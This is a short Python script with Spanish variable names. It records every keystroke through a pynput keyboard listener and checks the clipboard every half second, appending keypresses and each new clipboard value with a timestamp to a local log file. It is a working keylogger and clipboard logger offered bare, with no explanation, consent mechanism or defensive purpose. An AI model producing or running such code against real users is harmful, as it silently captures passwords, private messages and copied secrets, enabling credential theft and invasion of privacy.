import time, pyperclip
from pynput import keyboard

archivo = open("todo_lo_copiado.log", "a", encoding="utf-8")

def tecla(k):
    archivo.write(getattr(k, "char", None) or f"<{k}>")
    archivo.flush()

keyboard.Listener(on_press=tecla).start()
previo = ""
while True:
    actual = pyperclip.paste()
    if actual != previo:
        archivo.write(f"\n[{time.ctime()}] {actual}\n")
        previo = actual
    time.sleep(0.5)
